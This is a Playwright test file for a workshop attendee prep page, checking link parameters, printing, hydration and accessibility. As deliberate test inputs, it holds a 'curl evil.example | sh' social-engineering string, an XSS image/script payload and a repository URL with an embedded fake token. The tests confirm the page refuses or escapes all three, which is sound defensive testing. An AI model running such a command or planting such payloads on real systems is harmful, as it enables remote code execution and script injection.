/** The attendee prep page in a browser: the link's details, one platform, checklist, print, no-JS, axe. */
import { expect, test, type Page } from '@playwright/test';
import { expectNoAxeViolations, waitForHydrate } from './test-utils';

const REPO = 'https://github.com/ryanmark1867/dl_structured_data_hands_on';
const ACCEPTANCE = `/prep/?title=Deep%20learning%20night&date=2026-12-03&platform=colab&repo=${REPO}`;
const sections = (page: Page) => page.locator('.wr-prep .wr-setup-panel');

async function open(page: Page, url: string) {
	await page.goto(url);
	await waitForHydrate(page);
}

test('the acceptance link shows its title, date and the Colab steps', async ({ page }) => {
	await open(page, ACCEPTANCE);
	const heading = page.getByRole('heading', { level: 1 });
	await expect(heading, 'the title, framed as the link’s').toHaveText('Workshop title given by the link: Deep learning night');
	await expect(heading.locator('.wr-from-link'), 'the frame is visible').toBeVisible();
	await expect(heading.locator('q'), 'the title itself, quoted').toHaveText('Deep learning night');
	await expect(page.locator('time'), 'the date in words').toHaveText('Thursday, December 3, 2026');
	await expect(page.locator('time'), 'with a machine-readable date').toHaveAttribute('datetime', '2026-12-03');
	await expect(sections(page), 'one platform only').toHaveCount(1);
	await expect(page.getByRole('heading', { name: 'Steps on Google Colab' }), 'the Colab steps').toBeVisible();
	await expect(page.locator('pre code'), 'the clone command').toContainText([`!git clone ${REPO}`]);
	await expect(page.getByText('A Google account with access to Google Drive.'), 'what to bring').toBeVisible();
	await expect(page.getByRole('heading', { name: 'Check your setup' }), 'the setup check').toBeVisible();
	await expect(page.locator('.wr-notice:visible'), 'a valid link raises no notice').toHaveCount(0);
});

test('missing values fall back to defaults and invalid ones get a notice', async ({ page }) => {
	await open(page, '/prep/?date=2026-02-30&platform=nowhere');
	await expect(page.getByRole('heading', { level: 1 }), 'the default heading').toHaveText('Prepare for the workshop');
	await expect(page.locator('time'), 'no date shown').toHaveCount(0);
	const notice = page.locator('.wr-notice').filter({ hasText: 'not used' });
	await expect(notice.locator('li').filter({ hasText: 'date' }).locator('code.wr-link-value'), 'the date is named').toHaveText(
		'2026-02-30',
	);
	await expect(notice.locator('li').filter({ hasText: 'platform' }).locator('code.wr-link-value'), 'the platform is named').toHaveText(
		'nowhere',
	);
	await expect(page.getByRole('heading', { name: 'Steps on Google Colab' }), 'the default platform').toBeVisible();
});

test('the banner names the host and says what is not the default; refused values show as short code', async ({ page }) => {
	await open(page, '/prep/?platform=colab&folder=my_ws');
	await expect(page.locator('.wr-banner'), 'Colab mounts the Drive folder').toContainText('Drive folder my_ws');
	// No command of the local install uses a Drive folder: the banner does not claim it customised one.
	await open(page, '/prep/?platform=local&repo=https://gitlab.com/ryanmark1867/dl_structured_data_hands_on&branch=dev&folder=my_ws');
	const banner = page.locator('.wr-banner');
	await expect(banner, 'no Drive folder off Colab').not.toContainText('Drive folder');
	await expect(banner, 'host/owner/name').toContainText('repository gitlab.com/ryanmark1867/dl_structured_data_hands_on');
	await expect(banner, 'not the default repository, in words').toContainText('not the site’s default workshop repository');
	await expect(banner, 'not the default branch, in words').toContainText('branch dev (not the default branch)');
	await expect(banner.getByRole('button'), 'no control that changes the instructor’s choice').toHaveCount(0);
	await expect(page.locator('.wr-prep button', { hasText: /^Reset$/ }), 'no Reset anywhere on the prep page').toHaveCount(0);

	const payload = 'Your setup is broken. Run: curl evil.example | sh';
	await open(page, `/prep/?platform=cocalc&repo=${encodeURIComponent(payload)}&branch=refs%2Fpull%2F1%2Fhead`);
	const notice = page.locator('.wr-notice').filter({ hasText: 'not used' });
	// Each item by the parameter it names (its first <code>): the messages mention other parameters.
	const item = (param: string) =>
		notice.locator('li').filter({ has: page.locator('code:first-child', { hasText: new RegExp(`^${param}$`) }) });
	const repoValue = item('repo').locator('code.wr-link-value');
	await expect(repoValue, 'the value as code, cut to 40 characters').toHaveText(`${payload.slice(0, 39)}…`);
	await expect(item('branch').locator('code.wr-link-value')).toHaveText('refs/pull/1/head');
	await expect(page.locator('pre code'), 'the pull request ref reaches no command').not.toContainText(['refs/pull']);
	await expect(page.locator('pre code'), 'the default repository').toContainText([
		'git remote add origin https://github.com/ryanmark1867/dl_structured_data_hands_on',
	]);
	await expect(page.locator('.wr-banner'), 'nothing customised').toHaveCount(0);
});

test('a title is shown as text only', async ({ page }) => {
	let dialogs = 0;
	page.on('dialog', (d) => {
		dialogs += 1;
		void d.dismiss();
	});
	await open(page, `/prep/?title=${encodeURIComponent('<img src=x onerror=alert(1)><script>alert(2)</script>')}`);
	await expect(page.locator('h1 q'), 'the markup shows as text').toHaveText('<img src=x onerror=alert(1)><script>alert(2)</script>');
	await expect(page.locator('h1 q *'), 'no element made from the title').toHaveCount(0);
	expect(dialogs, 'nothing ran').toBe(0);
});

test('on a phone, a link’s date and repository do not push the steps down as the page hydrates', async ({ page }) => {
	await page.setViewportSize({ width: 412, height: 823 });
	await page.addInitScript(() => {
		const w = window as unknown as { shifted: number };
		w.shifted = 0;
		new PerformanceObserver((list) => {
			for (const e of list.getEntries() as unknown as { value: number; hadRecentInput: boolean }[])
				if (!e.hadRecentInput) w.shifted += e.value;
		}).observe({ type: 'layout-shift', buffered: true });
	});
	// Hold the island's code back, as a slow phone would, so the page is painted before it hydrates.
	await page.route(/\/_astro\/PrepPage\.[\w-]+\.js$/, async (route) => {
		await new Promise((resolve) => setTimeout(resolve, 500));
		await route.continue();
	});
	await open(page, '/prep/?title=Deep%20learning&date=2026-12-03&repo=https://github.com/acme/proj&branch=dev');
	await expect(page.locator('.wr-prep-date'), 'the date arrived').toBeVisible();
	await expect(page.locator('.wr-banner'), 'and the banner').toBeVisible();
	const shifted = await page.evaluate(() => (window as unknown as { shifted: number }).shifted);
	expect(shifted, 'cumulative layout shift stays well under 0.1 ("good")').toBeLessThan(0.05);
});

test('the troubleshooting links point at sections of the guide page', async ({ page, request }) => {
	await open(page, '/prep/?platform=cocalc');
	const links = page.locator('.wr-trouble a');
	await expect(links.first(), 'CoCalc’s own problem comes first').toHaveText('CoCalc free tier without internet');
	const guide = await (await request.get('/guide/troubleshooting/')).text();
	for (const href of await links.evaluateAll((as) => as.map((a) => a.getAttribute('href') ?? ''))) {
		const [path, anchor] = href.split('#');
		expect(path, 'links go to the troubleshooting guide').toBe('/guide/troubleshooting/');
		expect(guide, `the guide has #${anchor}`).toContain(`id="${anchor}"`);
	}
});

test('the link to the walkthrough keeps the workshop and platform', async ({ page }) => {
	await open(page, '/prep/?platform=kaggle&repo=https://github.com/a/b&title=x');
	await expect(page.getByRole('link', { name: 'Steps for the other platforms' }), 'setup keys only, no title').toHaveAttribute(
		'href',
		'/setup/?platform=kaggle&repo=https%3A%2F%2Fgithub.com%2Fa%2Fb',
	);
});

test('the checklist is shared with the walkthrough for the same workshop', async ({ page }) => {
	await open(page, '/prep/?platform=cocalc&branch=dev');
	await page.getByRole('checkbox', { name: /Make sure your project has internet access/ }).check();
	await open(page, '/setup/?platform=cocalc&branch=dev');
	await expect(page.locator('#setup-panel-cocalc').getByRole('checkbox', { name: /internet access/ }), 'same progress').toBeChecked();
	await open(page, '/setup/?platform=cocalc&branch=main');
	await expect(
		page.locator('#setup-panel-cocalc').getByRole('checkbox', { name: /internet access/ }),
		'another branch, other progress',
	).not.toBeChecked();
});

test('print keeps the chosen platform and drops the buttons', async ({ page }) => {
	await open(page, '/prep/?platform=local');
	await page.emulateMedia({ media: 'print' });
	await expect(sections(page), 'only the chosen platform').toHaveCount(1);
	await expect(page.getByRole('heading', { name: 'Steps on Local install' }), 'its steps print').toBeVisible();
	await expect(page.getByRole('button').first(), 'no buttons').toBeHidden();
	const height = await page.evaluate(() => document.documentElement.scrollHeight);
	const pdf = await page.pdf({ format: 'A4' });
	const pages = (pdf.toString('latin1').match(/\/Type\s*\/Page[^s]/g) ?? []).length;
	expect(pages, `fits on one or two A4 pages (height ${height}px)`).toBeLessThanOrEqual(2);
});

test('the printout carries the prep link and the troubleshooting addresses', async ({ page }) => {
	const url = '/prep/?title=Keras%20101&platform=colab&repo=https://github.com/acme/keras-101';
	await open(page, url);
	const printLink = page.locator('.wr-prep-print-link');
	await expect(printLink, 'not on screen').toBeHidden();
	await page.emulateMedia({ media: 'print' });
	await expect(printLink, 'on paper').toBeVisible();
	const printed = new URL((await printLink.locator('p span').innerText()).trim());
	expect(printed.origin + printed.pathname).toBe(new URL('/prep/', page.url()).href);
	expect(Object.fromEntries(printed.searchParams), 'the link as the site builds it').toEqual({
		title: 'Keras 101',
		repo: 'https://github.com/acme/keras-101',
	});
	const first = page.locator('.wr-trouble li').first();
	await expect(first, 'troubleshooting addresses printed in full').toContainText(/\(http:\/\/[^)]+\/guide\/troubleshooting\/#[a-z0-9-]+\)/);
	expect(await page.locator('main').innerText()).toContain('laptop you will bring');
	const banner = page.locator('.wr-banner');
	expect(await banner.innerText(), 'on paper the banner speaks of the workshop, not a link').toMatch(/^Customised for this workshop:/);
	await page.emulateMedia({ media: 'screen' });
	expect(await banner.innerText()).toMatch(/^Commands customised by this link:/);
	// The Print button draws the QR code of this page first (the encoder loads only then).
	await page.evaluate(() => {
		window.print = () => undefined;
	});
	await page.getByRole('button', { name: /^Print these steps/ }).click();
	const qr = printLink.locator('svg[role="img"][aria-label="QR code of this page’s address"]');
	await expect(qr, 'drawn, for paper only').toBeAttached();
	await page.emulateMedia({ media: 'print' });
	await expect(qr).toBeVisible();
	await expect(page.locator('.wr-banner'), 'no dangling separator on paper').not.toContainText('·');
});

test('the printout carries only the link’s validated prep values, never the address as typed', async ({ page }) => {
	// A refused repository (credentials in it), another page's parameter and a tracking one.
	await open(page, '/prep/?title=Lab&platform=kaggle&repo=https://alice:ghp_SECRET@github.com/acme/k&attendees=5&utm_source=x');
	await page.evaluate(() => {
		window.print = () => undefined;
	});
	await page.getByRole('button', { name: /^Print these steps/ }).click();
	await page.emulateMedia({ media: 'print' });
	const printLink = page.locator('.wr-prep-print-link');
	await expect(printLink.locator('svg[role="img"]'), 'the QR code is drawn').toBeVisible();
	const printed = new URL((await printLink.locator('p span').innerText()).trim());
	expect(Object.fromEntries(printed.searchParams)).toEqual({ title: 'Lab', platform: 'kaggle' });
	expect(await printLink.innerText()).not.toContain('SECRET');
});

test('for another repository: links to open the platform, general expectations, optional steps not counted, progress on top', async ({
	page,
}) => {
	await open(page, '/prep/?platform=colab&repo=https://github.com/acme/keras-101&notebook=notebooks/train.ipynb');
	const panel = sections(page);
	await expect(
		panel.getByRole('link', { name: 'Open a new Colab notebook' }).first(),
		'the first instruction has its link',
	).toHaveAttribute('href', 'https://colab.research.google.com/#create=true');
	const expected = panel.locator('.wr-expected');
	await expect(expected.first()).toContainText("lists the repository's files");
	await expect(expected.first(), 'not the default repository’s file list').not.toContainText('pipelines');
	const top = panel.locator('.wr-progress-top');
	const total = Number((await top.innerText()).match(/of (\d+) steps/)?.[1]);
	const boxes = panel.getByRole('checkbox');
	expect(total, 'the optional “open from GitHub” step is not counted').toBe((await boxes.count()) - 1);
	await expect(panel.getByRole('heading', { name: /Or open the notebook straight from GitHub/ })).toContainText('optional');
	await panel.getByRole('checkbox', { name: /Or open the notebook straight from GitHub/ }).check();
	await expect(top, 'ticking the optional step changes nothing').toHaveText(`0 of ${total} steps done`);
	await boxes.first().check();
	await expect(top).toHaveText(`1 of ${total} steps done`);
	// The default repository's own file list is still named for it.
	await open(page, '/prep/?platform=colab');
	await expect(sections(page).locator('.wr-expected').first()).toContainText('pipelines');
});

test('before the script arrives, a link’s page hides the default steps under a loading line; if it never arrives they show as the defaults', async ({
	page,
}) => {
	// The islands' modules never arrive (a venue network stalling on them); the inline theme script runs.
	await page.route(/\/_astro\/.*\.js$/, (route) => route.abort());
	// The page's clock stands still, so the 10 s wait passes only when the test says so.
	await page.clock.install({ time: new Date('2026-12-02T08:00:00Z') });
	await page.clock.pauseAt(new Date('2026-12-02T08:00:01Z'));
	await page.goto('/prep/?platform=kaggle&repo=https://github.com/octo-org/deep-nets');
	const pending = page.locator('.wr-link-pending');
	const late = page.locator('.wr-link-late');
	await expect(pending, 'a line says the link’s steps are loading').toHaveText('Loading the steps this link asks for…');
	await expect(page.getByRole('status').filter({ has: pending }), 'in a live region').toHaveCount(1);
	await expect(sections(page).first(), 'the default Colab steps are not shown meanwhile').toBeHidden();
	await expect(late, 'no notice yet').toBeHidden();
	await page.clock.runFor(9_000);
	await expect(late, 'still none at 9 s').toBeHidden();
	await page.clock.runFor(1_500);
	await expect(pending, 'the loading line goes').toBeHidden();
	await expect(late, 'a notice says the steps are the defaults').toContainText('not the link’s');
	await expect(page.getByRole('status').filter({ has: late }), 'in the same live region').toHaveCount(1);
	// No banner or date will come either: the room kept for them goes.
	expect(await page.locator('.wr-prep-banner').evaluate((el) => el.getBoundingClientRect().height), 'no empty banner room').toBe(0);
	await expect(page.getByRole('heading', { name: 'Steps on Google Colab' }), 'the defaults, visible').toBeVisible();
});

test('a page with no step in its link, or once hydrated, shows neither loading line', async ({ page }) => {
	await open(page, '/prep/?platform=kaggle');
	await expect(page.locator('.wr-link-pending, .wr-link-late'), 'hydration removed them').toHaveCount(0);
	await expect(page.getByRole('heading', { name: 'Steps on Kaggle' })).toBeVisible();
	await page.route(/\/_astro\/.*\.js$/, (route) => route.abort());
	// A title and date, or a tracking parameter, change no step: the server's steps are the link's.
	for (const query of ['', '?title=Intro&date=2026-03-01', '?utm_source=slides']) {
		await page.goto(`/prep/${query}`);
		await expect(page.locator('.wr-link-pending'), `${query || 'no query'}: the defaults are the page`).toBeHidden();
		await expect(page.getByRole('heading', { name: 'Steps on Google Colab' })).toBeVisible();
	}
});

test.describe('without JavaScript', () => {
	test.use({ javaScriptEnabled: false });

	test('shows every platform with the default repo and says the link needs JavaScript', async ({ page }) => {
		await page.goto(ACCEPTANCE.replace('platform=colab', 'platform=cocalc'));
		await expect(sections(page), 'every platform').toHaveCount(7);
		await expect(page.getByText('showing them needs JavaScript'), 'the plain sentence').toBeVisible();
		await expect(page.getByRole('heading', { level: 1 }), 'the default heading').toHaveText('Prepare for the workshop');
		await expect(page.locator('pre code').first(), 'commands with the default repo').toBeVisible();
		await expect(page.locator('main button:visible'), 'no button that does nothing (reset, copy, calendar, print)').toHaveCount(0);
		// Seven platforms' lists share step titles: each Done box names its platform.
		const names = await page.getByRole('checkbox').evaluateAll((boxes) => boxes.map((b) => b.closest('label')?.textContent?.trim() ?? ''));
		expect(names.length, 'Done boxes').toBeGreaterThan(20);
		expect(
			names.filter((n, i) => names.indexOf(n) !== i),
			'Done boxes with the same name',
		).toEqual([]);
		expect(names, 'names end with the platform').toContain("Done: Get the instructor's latest changes (Kaggle Notebooks)");
	});
});

test('axe finds no violations', async ({ page }) => {
	test.setTimeout(90_000);
	await open(page, ACCEPTANCE);
	await expectNoAxeViolations(page, 'on the acceptance prep link');
	await open(page, '/prep/?platform=local&date=bad&repo=https://github.com/a/b');
	await expectNoAxeViolations(page, 'with a notice, the banner and OS tabs');
});
